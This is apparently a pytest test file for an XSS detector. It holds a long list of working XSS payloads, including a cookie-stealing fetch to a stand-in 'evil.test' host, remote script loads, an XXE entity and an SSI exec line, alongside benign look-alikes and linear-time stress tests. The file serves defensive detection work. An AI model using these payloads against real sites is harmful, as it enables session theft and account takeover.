"""XSS detector (:mod:`protect_lambda.detectors.html`): structures found, look-alikes left alone.

Inputs go through :func:`protect_lambda.normalize.normalize` first, as in the guard. The
adversarial inputs at the end assert results only (never time: machines are noisy); they run
long inputs built against each part of the lexer so that a super-linear path would show up as
a hung test run.
"""

from __future__ import annotations

import ast
import doctest
import re
from pathlib import Path

import pytest
from protect_lambda.detectors import html
from protect_lambda.engine import check_pattern
from protect_lambda.normalize import normalize


def kinds(raw: str) -> set[str]:
    """Kinds the detector reports for a raw (not yet normalised) value."""
    return {kind for kind, _, _ in html.detect(normalize(raw))}


def strong(raw: str) -> set[str]:
    return {k for k in kinds(raw) if html.KINDS[k] == "strong"}


# --- structures ---------------------------------------------------------------------------

ATTACKS: list[tuple[str, str]] = [
    # script elements, in any form
    ("<script>alert(document.domain)</script>", "script-tag"),
    ("<SCRIPT SRC=//cdn.evil.test/p.js></SCRIPT>", "script-tag"),
    ("<script/src=data:,alert(7)>", "script-tag"),
    ("<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(2)</x:script>", "script-tag"),
    ("< script >prompt(3)< / script >", "script-tag"),
    ("<scr<script>ipt>confirm(4)</scr</script>ipt>", "script-tag"),
    ("<script>var q = location.hash</script>", "script-tag"),
    # elements that embed, load or navigate
    ("<iframe src=//evil.test/frame></iframe>", "active-tag"),
    ("<object data=//evil.test/movie.swf></object>", "active-tag"),
    ("<embed src=//evil.test/x.swf allowscriptaccess=always>", "active-tag"),
    ("<applet code=Evil.class codebase=//evil.test/>", "active-tag"),
    ("<base href=//evil.test/>", "active-tag"),
    ('<meta http-equiv="refresh" content="0;url=//evil.test/">', "active-tag"),
    ('<meta http-equiv="Set-Cookie" content="sid=fixed">', "active-tag"),
    ('<meta charset="UTF-7">', "active-tag"),
    ("<link rel=import href=//evil.test/c.html>", "active-tag"),
    ("<link rel=stylesheet href=//evil.test/x.css>", "active-tag"),
    ('<?import namespace="t" implementation="#default#time2">', "active-tag"),
    ('<?xml-stylesheet type="text/xsl" href="//evil.test/t.xsl"?>', "active-tag"),
    ("<svg><set attributeName=onload to=prompt(5)>", "active-tag"),
    ("<svg><animate attributeName=href values=javascript:alert(6) />", "active-tag"),
    ('<span datasrc="#i" datafld="c" dataformatas="html"></span>', "active-tag"),
    ('<!DOCTYPE r [<!ENTITY e SYSTEM "http://evil.test/e">]><r>&e;</r>', "active-tag"),
    ('<!--#exec cmd="id"-->', "active-tag"),
    # event handlers on any element, however written
    ("<img src=x onerror=alert(1)>", "event-handler"),
    ("<IMG SRC=x OnErRoR=alert(1)>", "event-handler"),
    ("<svg/onload=alert(1)>", "event-handler"),
    ("<details open ontoggle=prompt(1)>", "event-handler"),
    ("<custom-el onpointerenter=alert(1)>", "event-handler"),
    ("<x onnewfangledevent=go()>", "event-handler"),
    ("<img src=x\tonerror\n=\nalert(1)>", "event-handler"),
    ("<img src=x\x0bonerror=alert(1)>", "event-handler"),
    ("<body onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>", "event-handler"),
    ("<img src=x onerror=alert(1)", "event-handler"),  # unclosed
    ("</a onmouseover=alert(1)>", "event-handler"),  # on a closing tag
    ('<a xmlns="x:img src=x onerror=alert(1) ">', "event-handler"),  # hidden in a value
    ('<div ng-click="$event.view.alert(1)">', "event-handler"),
    ("<img src=x onerror={alert(1)}>", "event-handler"),
    ('<!DOCTYPE x [<!ATTLIST img onerror CDATA "alert(1)">]><img>', "event-handler"),
    # script URLs and their obfuscations
    ('<a href="javascript:alert(1)">x</a>', "script-url"),
    ('<a href="JaVaScRiPt:alert(1)">x</a>', "script-url"),
    ('<a href="java&#x09;script:alert(1)">x</a>', "script-url"),
    ('<a href="java%0ascript:alert(1)">x</a>', "script-url"),
    ('<a href="&#14;  javascript:alert(1)">x</a>', "script-url"),
    ('<a href="javas<!-- x -->cript:alert(1)">x</a>', "script-url"),
    ("<a href=vbscript:msgbox(1)>x</a>", "script-url"),
    ('<form action="javascript:alert(1)"><input type=submit>', "script-url"),
    ("<button formaction=javascript:alert(1)>go", "script-url"),
    ('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a>', "script-url"),
    ('<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', "script-url"),
    ('<embed src="data:image/svg+xml;base64,PHN2Zz4=">', "script-url"),
    ('<img alt="javascript:alert(1)" src=x>', "script-url"),
    ('<br size="&{alert(1)}">', "script-url"),
    ("javascript:alert(document.cookie)", "script-url"),
    ("  javascript://%0aalert(1)", "script-url"),
    ("/login?next=javascript:alert(1)", "script-url"),
    ("data:text/html,<script>alert(1)</script>", "script-url"),
    ("[click](javascript:alert(1))", "script-url"),
    # attributes injected after a closing quote, or into an unquoted value
    ('" onmouseover="alert(1)', "attribute-injection"),
    ("' autofocus onfocus='alert(1)", "attribute-injection"),
    ('x"autofocus/onfocus=alert(1)//', "attribute-injection"),
    ('" type=image src=x onerror=go "', "attribute-injection"),
    ("' style='x:expression(alert(1))", "attribute-injection"),
    (" onfocus=alert(1) autofocus ", "attribute-injection"),
    ("  onwhatever= ", "attribute-injection"),
    ("bot/1.0 (compatible; onload=alert(document.domain))", "attribute-injection"),
    # CSS that runs script
    ('<div style="width: expression(alert(1))">', "style-script"),
    ('<p style="x:exp\\72 ession(alert(1))">', "style-script"),
    ('<p style="x:expr/**/ession(alert(1))">', "style-script"),
    ('<div style="behavior: url(x.htc)">', "style-script"),
    ('<div style="-moz-binding:url(//evil.test/x.xml#b)">', "style-script"),
    ("<div style=\"background:url('javascript:alert(1)')\">", "style-script"),
    ("<style>*{background:url(javascript:alert(1))}</style>", "style-script"),
    ("a{color:red;x:expression(alert(1))}", "style-script"),
    # JavaScript string and statement breakouts
    ("';alert(1)//", "js-breakout"),
    ('";alert(1);x="', "js-breakout"),
    ("'-alert(1)-'", "js-breakout"),
    ('\\";alert(1);//', "js-breakout"),
    ("x';confirm`1`//", "js-breakout"),
    ("42;fetch('//evil.test/'+document.cookie)//", "js-breakout"),
    ("${alert(1)}", "js-breakout"),
    ("</script><script>alert(1)</script>", "js-breakout"),
    ('name=a"};alert(1);//', "js-breakout"),
    # template sandbox escapes
    ("{{constructor.constructor('alert(1)')()}}", "template-injection"),
    ("{{$on.constructor('alert(1)')()}}", "template-injection"),
    ("{{[].pop.constructor('alert(1)')()}}", "template-injection"),
    # charset tricks
    ("+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "script-tag"),
    ("\u00bcscript\u00bealert(1)\u00bc/script\u00be", "script-tag"),
    ("<![CDATA[<]]>script<![CDATA[>]]>alert(1)<![CDATA[<]]>/script<![CDATA[>]]>", "script-tag"),
]

WEAK: list[tuple[str, str]] = [
    ("alert(1)", "js-sink"),
    ("document.cookie", "js-sink"),
    ("top['al'+'ert'](1)", "js-sink"),
    ("[].map.call`${eval}alert(1)`", "js-sink"),
    ("(![]+[])[+!+[]]", "js-sink"),
    ("<svg>", "markup"),
    ("<plaintext>", "markup"),
    ('"><b>injected</b>', "markup"),
    ("<style>@import 'http://evil.test/x.css';</style>", "markup"),
    ('<div style="color:red}body{background:red">', "markup"),
    ('<a href="http://0x7f.0x0.0x0.0x1/">x</a>', "markup"),
    ("%3C", "probe"),
]


@pytest.mark.parametrize(("raw", "kind"), ATTACKS)
def test_attack_structures_are_found(raw: str, kind: str) -> None:
    assert kind in kinds(raw)
    assert html.KINDS[kind] == "strong"


@pytest.mark.parametrize(("raw", "kind"), WEAK)
def test_weak_structures_are_found_and_only_weak(raw: str, kind: str) -> None:
    found = kinds(raw)
    assert kind in found
    assert html.KINDS[kind] == "weak"
    assert not strong(raw)


def test_spans_lie_in_the_value_and_kinds_are_documented() -> None:
    for raw, _ in ATTACKS + WEAK:
        text = normalize(raw)
        for kind, start, end in html.detect(text):
            assert kind in html.KINDS
            assert 0 <= start <= end <= len(text)
            assert f"``{kind}``" in (html.__doc__ or "")


def test_handler_span_covers_the_attribute() -> None:
    text = "<img src=x onerror=alert(1)>"
    assert [(k, text[s:e]) for k, s, e in html.detect(text)] == [
        ("event-handler", "onerror=alert(1)"),
    ]


def test_decoded_trick_is_reported_over_the_whole_value() -> None:
    text = normalize("+ADw-script+AD4-alert(1)")
    assert ("script-tag", 0, len(text)) in html.detect(text)


# --- benign look-alikes -------------------------------------------------------------------

BENIGN: list[str] = [
    # UI strings and i18n messages with harmless markup
    'See the <a href="%(url)s">changelog</a> for details.',
    "Add <meta name=\"robots\" content=\"noindex\"> to keep the page out of search results.",
    '<a href="https://docs.example.org/%(version)s/topics/" target="_blank" rel="noopener">docs</a>',
    "<strong>Careful:</strong> deleting a project removes its <em>history</em> too.<br>",
    "Welcome back, {{ user.first_name }}! You have {{ unread }} new messages.",
    "{{ invoice.total | currency }} due on {{ formatDate(invoice.due) }}",
    "\u201c%(name)s\u201d isn\u2019t a valid identifier.",
    # markdown and HTML in webhook bodies and release notes
    (
        "<details>\n<summary>Full changelog</summary>\n\n* faster builds\n"
        "* fixed `onclick` leak\n</details>"
    ),
    '<img width="480" alt="screenshot of the settings page" src="https://img.example.org/s.png">',
    '<p align="center"><img src="assets/logo.svg" height="64"></p>',
    (
        '<picture><source media="(prefers-color-scheme: dark)" '
        'srcset="https://img.example.org/d.png"><img src="https://img.example.org/l.png"></picture>'
    ),
    "<!-- describe the change below -->\n### What changed\n- [x] tests\n- [ ] docs",
    "![](https://img.example.org/diagram.png) and ![chart](https://img.example.org/c.png)",
    "<sub>Sent from the mobile app</sub> <kbd>Ctrl</kbd>+<kbd>K</kbd>",
    '<table><tr><td style="padding:4px 8px;color:#555">total</td><td>12</td></tr></table>',
    '<span style="font-family: \'Fira Sans\', sans-serif; font-weight: 600">Title</span>',
    '<div style="scroll-behavior: smooth; overflow-y: auto">list</div>',
    '<a href="javascript:void(0)" class="menu">Menu</a>',
    '<video src="https://media.example.org/intro.mp4" controls poster="https://media.example.org/p.jpg">',
    '<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4">',
    '<link rel="canonical" href="https://www.example.org/page">',
    '<meta http-equiv="Content-Type" content="text/html; charset=utf-8">',
    '<form method="post" action="/account/login"><input name="user" autofocus></form>',
    # code in issue bodies: framework event bindings that reach no sink
    "```jsx\n<Button onClick={() => setOpen(true)} disabled={busy}>Save</Button>\n```",
    '<button @click="save()" :disabled="busy">Save</button> <input v-on:keyup.enter="submit">',
    '<div ng-click="vm.toggle()" ng-init="vm.load()"></div>',
    "document.addEventListener('DOMContentLoaded', () => init());",
    # HTML e-mail bodies
    (
        '<!--[if mso]><v:roundrect xmlns:v="urn:schemas-microsoft-com:vml" '
        'href="https://example.org/confirm" style="height:40px;width:200px" fillcolor="#1a73e8">'
        "<center>Confirm</center></v:roundrect><![endif]-->"
    ),
    '<style type="text/css">@media (max-width: 600px) { .wrap { width: 100% !important; } }</style>',
    '<div style="background:url(data:image/png;base64,iVBORw0KGgo=) no-repeat">banner</div>',
    '<img src="https://t.example.org/open?id=42" width="1" height="1" alt="">',
    # security changelogs that name what they fixed
    "- Sanitize `javascript:` URLs in links (#412)\n- Block `data:text/html` URLs in frames",
    "Fixed an XSS where `<img onerror>` attributes were kept; `onerror=` is now stripped.",
    '<a href="https://example.org/search?q=%3Cscript%3E">search for script tags</a>',
    # mentions of script-capable things in prose
    "The <iframe> element is blocked in email clients.",
    "Fixed escaping of <script> tags inside fenced code blocks.",
    "Use <svg> icons instead of sprites.",
    "The onclick handler never fires when the button is disabled.",
    "We call onload=init() from the body tag in the old template.",
    "window.location is read-only inside the sandbox",
    "alert(s) are shown in the top bar when a job fails",
    "setTimeout(() => poll(), 500) keeps the page fresh",
    "JavaScript: The Good Parts",
    "javascript: the definitive guide, 7th edition",
    "q=javascript%3A+void(0)+meaning",
    '<img alt="javascript: the good parts (cover)" src="/covers/js.jpg">',
    "He said \"online=yes\" and 'onboarding=done' were the flags we need.",
    "The element's onclick = function () { ... } assignment wins.",
    'grep -rn "onload=" src/ | wc -l',
    "Referer: https://www.google.com/search?q=%3Cscript%3E+tag+meaning",
    "Please don't eval untrusted input; prompt the user instead.",
    # maths, comparisons, arrows, generics, e-mail addresses
    "a < b and c > d",
    "if (x < 3 && y > 2) { return x; }",
    "I <3 this library <3",
    "<- back | next ->",
    "-->",
    "price<100&rating>=4",
    "List<Map<String, Integer>> values = new ArrayList<>();",
    "template <typename T> T max(T a, T b);",
    "Jane Doe <jane.doe@example.com>",
    '"Build Bot" <noreply@ci.example.org>',
    "<YOUR_API_KEY> goes in the header",
    # URLs, code and data that use the trigger characters
    "https://shop.example.org/search?q=onload+event&online=true&one=1",
    "https://example.org/#/app?view=list&sort=-date",
    "online=true",
    "style=compact",
    "key=\"value\"; other='x'; flag",
    "'foo';'bar';'baz'",
    "SELECT name FROM users WHERE id = '7'; -- by id",
    "[1, 2, 3].map(x => x * 2)",
    "[x] done [ ] pending",
    "{\"onload\": true, \"onerror\": false, \"type\": \"click\"}",
    "mozilla/5.0 (windows nt 10.0; win64; x64) applewebkit/537.36 (khtml, like gecko)",
    "Hello ${firstName}, your code is ${code}.",
    "echo ${HOME}/bin",
    "metadata: {name: test}",
    "C:\\Program Files\\App\\app.exe",
]


@pytest.mark.parametrize("raw", BENIGN)
def test_benign_look_alikes_are_clean(raw: str) -> None:
    assert html.detect(normalize(raw)) == []


def test_empty_and_plain_values() -> None:
    assert html.detect("") == []
    assert html.detect("hello world") == []
    assert html.detect("just some text, with commas; and semicolons") == []


# --- data, patterns, imports --------------------------------------------------------------


def test_kinds_have_a_weight_and_strong_and_weak_both_exist() -> None:
    assert set(html.KINDS.values()) == {"strong", "weak"}


def test_patterns_have_no_nested_quantifiers() -> None:
    for pattern in html.PATTERNS:
        assert check_pattern(pattern.pattern) is None, pattern.pattern


def test_every_module_regex_is_listed_in_patterns() -> None:
    compiled = {id(v) for v in vars(html).values() if isinstance(v, re.Pattern)}
    assert compiled == {id(p) for p in html.PATTERNS}


def test_only_the_standard_library_is_imported() -> None:
    tree = ast.parse(Path(html.__file__).read_text(encoding="utf-8"))
    imported = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            imported |= {alias.name.split(".")[0] for alias in node.names}
        elif isinstance(node, ast.ImportFrom) and node.module:
            imported.add(node.module.split(".")[0])
    # the standard library, and the guard's own package (the recorded-regex compiler)
    assert imported <= {"__future__", "re", "bisect", "typing", "protect_lambda"}


def test_docstring_examples() -> None:
    assert doctest.testmod(html, optionflags=doctest.ELLIPSIS).failed == 0


# --- adversarial input: linear time -------------------------------------------------------

KB100 = 100_000

RUNS: list[str] = [
    "<", "<a", "<a ", "<a x=", '<a x="', "<a x='", "<a x=`", '<a x="<b y=\'', "<a b=c ",
    "<!--", "<!", "<!attlist on", "<!entity x system ", "<?", "</", "< / ", '"', "'", "`",
    '" a', "' a", '"a=x', '" onload="', "'onmouseover=", "<img src=", "<svg>", "<style>",
    "<script>", "<a style='x:", "url(", "javascript:", "j\t", "java script ", "data:", "{{",
    "${", "![]", "[]", ";alert(", "';alert(", "onload=x(", " onclick=f( ", "=", ":", "(",
    "\\", "+adw-", "1\u20444", "<![cdata[", "\">", '"><a', "&{", "expression(", "document.",
]


@pytest.mark.parametrize("unit", RUNS)
def test_long_runs_complete(unit: str) -> None:
    text = (unit * (KB100 // len(unit) + 1))[:KB100]
    found = html.detect(text)
    assert all(0 <= s <= e <= len(text) for _, s, e in found)


@pytest.mark.parametrize("unit", ["<a ", '" a', "<!--", "'", "<", "{{", "=", "<b>x</b> "])
def test_attack_after_a_long_run_is_still_found(unit: str) -> None:
    text = (unit * (KB100 // len(unit) + 1))[:KB100] + " <svg onload=alert(1)>"
    assert "event-handler" in {k for k, _, _ in html.detect(text)}


def test_long_benign_runs_stay_clean() -> None:
    for unit in ["<a ", "< ", "a < b ", "<b>x</b> ", "'", '"', "<!-- c -->", "x=1; "]:
        text = (unit * (KB100 // len(unit) + 1))[:KB100]
        assert html.detect(text) == [], unit


def test_deeply_nested_markup_completes() -> None:
    nested = "<a title=\"<b title='<c title=`" * 3000 + "x" + "`>'>\">" * 3000
    html.detect(nested)
    tags = "<div>" * 20000 + "</div>" * 20000
    assert html.detect(tags) == []
